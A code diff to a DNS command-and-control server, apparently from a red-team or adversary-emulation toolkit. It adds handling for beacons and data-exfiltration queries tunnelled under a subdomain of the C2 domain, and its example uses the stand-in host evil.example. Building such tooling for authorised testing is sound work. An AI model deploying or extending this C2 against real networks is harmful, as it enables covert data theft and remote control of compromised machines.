@@ -24,7 +24,9 @@
   * ``<nonce>.<session>.p.<domain>`` (TXT): a beacon polling for a task; answered with a TXT
     record holding the task.
 
-  Anything else under the domain gets an A record 10.0.0.0; names outside it get REFUSED.
+  The same names under a subdomain of the domain (``....d.x.<domain>``: a client tunnelling
+  under ``x.<domain>``) are read the same way. Anything else under the domain gets an A record
+  10.0.0.0; names outside it get REFUSED.
 """
 from __future__ import annotations
 
@@ -175,6 +177,25 @@ def serve_http(args) -> None:
 
 
 # --------------------------------------------------------------------------- DNS
+def _hex(label: str) -> bool:
+    return bool(label) and all(c in "0123456789abcdef" for c in label)
+
+
+def tunnel_labels(labels: list[str]) -> list[str]:
+    """The labels of a name below the C2 domain, up to its kind marker (``d``, ``f``, ``p``).
+
+    A client may tunnel under a subdomain of the C2 domain (``domain: x.evil.example`` with a
+    server for ``evil.example``: ``playbook check`` accepts it, as a real authoritative server
+    receives those names): the labels between the marker and the domain are dropped. The
+    rightmost marker whose form fits wins, so a name right below the domain reads as before."""
+    for k in range(len(labels) - 1, -1, -1):
+        mark = labels[k]
+        if (mark == "d" and k >= 3 and _hex(labels[k - 2])) or \
+                (mark == "f" and k == 3 and _hex(labels[0])) or (mark == "p" and k == 2):
+            return labels[:k + 1]
+    return labels
+
+
 class DnsC2:
     """Parses and answers the queries (scapy's DNS codec); one instance per server."""
 
@@ -198,6 +219,7 @@ class DnsC2:
             self.log.write(peer=peer, qname=qname, qtype=qtype, kind="refused")
             return bytes(DNS(id=q.id, qr=1, aa=0, rd=q.rd, rcode=5, qd=q.qd))
         labels = qname[: -len(self.domain)].rstrip(".").split(".") if qname != self.domain else []
+        labels = tunnel_labels(labels)
         try:
             if len(labels) >= 4 and labels[-1] == "d":
                 seq, session = int(labels[-3], 16), _safe(labels[-2])
